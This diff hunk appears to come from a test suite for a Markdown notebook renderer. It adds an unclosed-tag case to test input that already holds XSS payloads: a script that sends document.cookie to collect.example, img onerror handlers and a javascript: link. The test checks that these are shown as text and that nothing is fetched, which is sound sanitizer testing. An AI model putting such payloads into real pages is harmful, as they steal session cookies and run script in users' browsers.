@@ -181,7 +181,9 @@ describe('starter notebooks on a sample world', () => {
     '', '<script>fetch("https://collect.example/" + document.cookie)</script>', '',
     '<img src="https://tracker.example/pixel.gif" onerror="alert(1)">', '',
     '![the team](https://cdn.example/team.png) ![a dot](data:image/png;base64,iVBORw0KGgo=)', '',
-    '[the details](javascript:alert(2)) and [the handbook](https://spirit.example/handbook)',
+    '[the details](javascript:alert(2)) and [the handbook](https://spirit.example/handbook)', '',
+    // An unclosed tag after an opening <kbd>: the lexer took the rest as raw text, already escaped.
+    'Press <kbd> then <img src=https://tracker.example/x.gif onerror=alert(3) and wait',
   ].join('\n');
 
   it('shows raw HTML of the Markdown as text, and no remote image: no script, no event handler, nothing fetched', async () => {
